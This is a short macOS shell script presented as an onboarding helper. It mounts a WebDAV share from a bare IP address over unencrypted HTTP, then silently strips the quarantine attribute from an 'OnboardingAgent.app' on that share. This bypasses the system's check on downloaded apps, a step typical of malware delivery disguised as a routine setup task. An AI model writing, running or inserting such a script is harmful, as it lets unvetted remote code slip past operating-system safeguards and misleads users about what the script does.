#!/bin/sh
# mounts the onboarding share the .webloc points at
mkdir -p /Volumes/onboard
mount_webdav -s http://198.51.100.14/onboard /Volumes/onboard
xattr -dr com.apple.quarantine /Volumes/onboard/OnboardingAgent.app 2>/dev/null
